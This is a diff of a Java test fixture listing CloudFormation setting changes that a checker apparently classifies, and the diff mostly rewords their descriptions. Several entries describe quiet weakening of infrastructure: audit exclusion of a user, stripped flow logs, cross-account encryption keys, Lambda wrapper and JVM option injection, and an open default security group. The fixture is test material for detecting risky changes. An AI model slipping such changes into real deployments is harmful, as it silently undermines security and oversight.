+                set("", "a pinned image", "Web", LAUNCHED, "/LaunchTemplateData/ImageId", "'ami-0123456789abcdef0'"),
                 add(
                         "",
                         "one more alarm",
                         "Web",
                         "AWS::CloudWatch::Alarm",
                         "'AlarmName': 'more', 'MetricName': 'Throttles', 'Namespace': 'AWS/Lambda', 'Dimensions': [{'Name': 'FunctionName', 'Value': 'Scaleup-prod-web-membership'}], 'Threshold': 1, 'EvaluationPeriods': 1, 'ComparisonOperator': 'GreaterThanThreshold'"),
-                add("", "one more metric of a log", "Web", "AWS::Logs::MetricFilter", "'FilterPattern': ''"),
+                add("", "one more metric filter", "Web", "AWS::Logs::MetricFilter", "'FilterPattern': ''"),
                 add(
                         "",
-                        "a parameter that anybody may know",
+                        "a parameter that is no secret",
                         "Web",
                         "AWS::SSM::Parameter",
                         "'Name': '/shop/version', 'Type': 'String', 'Value': '3'"),
                 add(
                         "",
-                        "another name of a key",
+                        "an alias of a key",
                         "Database",
                         "AWS::KMS::Alias",
                         "'AliasName': 'alias/shop', 'TargetKeyId': {'Ref': 'Key'}"),
@@ -1358,7 +1389,7 @@ final class SettingChanges {
                 }),
                 of(
                         "",
-                        "an order in which resources are made",
+                        "an order in which resources are created",
                         templates -> put(
                                 templates.first("LoadBalancer", "AWS::Logs::MetricFilter"),
                                 "/DependsOn",
@@ -1378,7 +1409,7 @@ final class SettingChanges {
                         "'1'"),
                 set(
                         "changes",
-                        "another authority of the database's certificate",
+                        "another certificate authority for the database",
                         "Database",
                         DATABASE,
                         "/CACertificateIdentifier",
@@ -1399,7 +1430,7 @@ final class SettingChanges {
                         "'0'"),
                 set(
                         "properties",
-                        "a database that takes no writes",
+                        "a read-only database",
                         "Database",
                         "AWS::RDS::DBParameterGroup",
                         "/Parameters/read_only",
@@ -1428,28 +1459,28 @@ final class SettingChanges {
                         "'TABLE'"),
                 set(
                         "properties",
-                        "an audit that leaves somebody out",
+                        "an audit that leaves out a user",
                         "Database",
                         "AWS::RDS::OptionGroup",
                         "/OptionConfigurations/0/OptionSettings/1",
                         "{'Name': 'SERVER_AUDIT_EXCL_USERS', 'Value': 'scaleup'}"),
                 set(
                         "properties",
-                        "flow logs that say nothing",
+                        "flow logs of nothing but their version",
                         "Network",
                         "AWS::EC2::FlowLog",
                         "/LogFormat",
                         "'${version}'"),
                 set(
                         "properties",
-                        "a log of which nothing is counted",
+                        "a log group of a class without metric filters",
                         "LoadBalancer",
                         "AWS::Logs::LogGroup",
                         "/LogGroupClass",
                         "'INFREQUENT_ACCESS'"),
                 set(
                         "properties",
-                        "an alarm that others silence",
+                        "an alarm that another alarm silences",
                         "Operations",
                         "AWS::CloudWatch::CompositeAlarm",
                         "/ActionsSuppressor",
@@ -1470,28 +1501,28 @@ final class SettingChanges {
                         "false"),
                 set(
                         "encryption",
-                        "a secret by another account's key",
+                        "a secret encrypted with another account's key",
                         "Database",
                         SECRET,
                         "/KmsKeyId",
                         "'arn:aws:kms:eu-west-1:999999999999:key/1'"),
                 set(
                         "encryption",
-                        "a queue by another account's key",
+                        "a queue encrypted with another account's key",
                         "Web",
                         "AWS::SQS::Queue",
                         "/KmsMasterKeyId",
                         "'arn:aws:kms:eu-west-1:999999999999:key/1'"),
                 set(
                         "functions",
-                        "a program before a function's",
+                        "a wrapper script before a function's program",
                         "Web",
                         FUNCTION,
                         "/Environment/Variables/AWS_LAMBDA_EXEC_WRAPPER",
                         "'/opt/wrapper'"),
                 set(
                         "functions",
-                        "options of a function's Java",
+                        "options of a function's JVM",
                         "Web",
                         FUNCTION,
                         "/Environment/Variables/JAVA_TOOL_OPTIONS",
@@ -1505,7 +1536,7 @@ final class SettingChanges {
                         "{'UpdateRuntimeOn': 'Manual', 'RuntimeVersionArn': 'arn:aws:lambda:eu-west-1::runtime:1'}"),
                 set(
                         "properties",
-                        "failed events for somebody's queue",
+                        "failed events for somebody else's queue",
                         "Web",
                         FUNCTION,
                         "/DeadLetterConfig",
@@ -1520,7 +1551,7 @@ final class SettingChanges {
                         "1024"),
                 set(
                         "functions",
-                        "events that are tried once",
+                        "failed events that aren't retried",
                         "Web",
                         "AWS::Lambda::EventInvokeConfig",
                         "/MaximumRetryAttempts",
@@ -1528,21 +1559,21 @@ final class SettingChanges {
                 set("zones", "all servers in one rack by their group", "Web", GROUP, "/PlacementGroup", "'rack'"),
                 set(
                         "zones",
-                        "no more servers where a zone is away",
+                        "no replacements in other zones when a zone fails",
                         "Web",
                         GROUP,
                         "/AvailabilityZoneDistribution",
                         "{'CapacityDistributionStrategy': 'balanced-only'}"),
                 set(
                         "properties",
-                        "servers that somebody else sends requests",
+                        "servers in somebody else's target group",
                         "Web",
                         GROUP,
                         "/TrafficSources",
                         "[{'Identifier': 'arn:aws:vpc-lattice:eu-west-1:999999999999:targetgroup/tg-1', 'Type': 'vpc-lattice'}]"),
                 set(
                         "servers",
-                        "servers that grow no more",
+                        "servers that no longer scale out",
                         "Web",
                         "AWS::AutoScaling::ScalingPolicy",
                         "/TargetTrackingConfiguration/TargetValue",
@@ -1556,7 +1587,7 @@ final class SettingChanges {
                         "true"),
                 set(
                         "servers",
-                        "servers that ask no metadata",
+                        "servers without instance metadata",
                         "Web",
                         LAUNCHED,
                         "/LaunchTemplateData/MetadataOptions/HttpEndpoint",
@@ -1570,7 +1601,7 @@ final class SettingChanges {
                         "'t4g.nano'"),
                 set(
                         "network-load-balancer",
-                        "health checks of another port",
+                        "health checks on another port",
                         "LoadBalancer",
                         TARGETS,
                         "/HealthCheckPort",
@@ -1584,14 +1615,14 @@ final class SettingChanges {
                         "10"),
                 of(
                         "roll-outs",
-                        "new servers that count at once",
+                        "new servers that count as warm at once",
                         templates -> put(
                                 templates.first("Web", GROUP),
                                 "/UpdatePolicy/AutoScalingInstanceRefresh/Preferences/InstanceWarmup",
                                 "0")),
                 of(
                         "connections",
-                        "a default group that stays open",
+                        "a default security group that stays open",
                         templates -> templates.remove(
                                 "Network",
                                 templates.idOf(
@@ -1605,13 +1636,13 @@ final class SettingChanges {
                         "'AutoScalingGroupName': 'Scaleup-prod-web', 'MaxSize': 0, 'Recurrence': '0 22 * * *'"),
                 add(
                         "encryption",
-                        "alarms that a key keeps back",
+                        "alarms that a key doesn't let through",
                         "Operations",
                         "AWS::SNS::Topic",
                         "'KmsMasterKeyId': 'alias/aws/sns'"),
                 add(
                         "properties",
-                        "alarms that a filter keeps back",
+                        "alarms that a filter drops",
                         "Operations",
                         "AWS::SNS::Subscription",
                         "'Protocol': 'email', 'Endpoint': 'a@example.org', 'FilterPolicy': {'a': ['b']}"),
@@ -1622,7 +1653,7 @@ final class SettingChanges {
                         DATABASE,
                         "/EnableIAMDatabaseAuthentication",
                         "true"),
-                set("properties", "users of a directory", "Database", DATABASE, "/Domain", "'d-0123456789'"));
+                set("properties", "users from a directory", "Database", DATABASE, "/Domain", "'d-0123456789'"));
     }
 
     private static Stream<Change> harmlessProperties() {
@@ -1637,7 +1668,7 @@ final class SettingChanges {
                 set("", "subnets without tags", "Network", "AWS::EC2::Subnet", "/Tags", "[]"),
                 set(
                         "",
-                        "servers with more room to their disks",
+                        "servers with more bandwidth to their disks",
                         "Web",
                         LAUNCHED,
                         "/LaunchTemplateData/EbsOptimized",
@@ -1654,14 +1685,14 @@ final class SettingChanges {
                 set("", "a longer wait between two steps of scaling", "Web", GROUP, "/Cooldown", "'60'"),
                 set(
                         "",
-                        "servers by another kind of the same processor",
+                        "servers of another type with the same processor",
                         "Web",
                         LAUNCHED,
                         "/LaunchTemplateData/InstanceType",
                         "'c7g.large'"),
                 add(
                         "",
-                        "servers for the morning",
+                        "more servers in the morning",
                         "Web",
                         "AWS::AutoScaling::ScheduledAction",
                         "'AutoScalingGroupName': 'Scaleup-prod-web', 'MinSize': 4, 'Recurrence': '0 6 * * *'"));
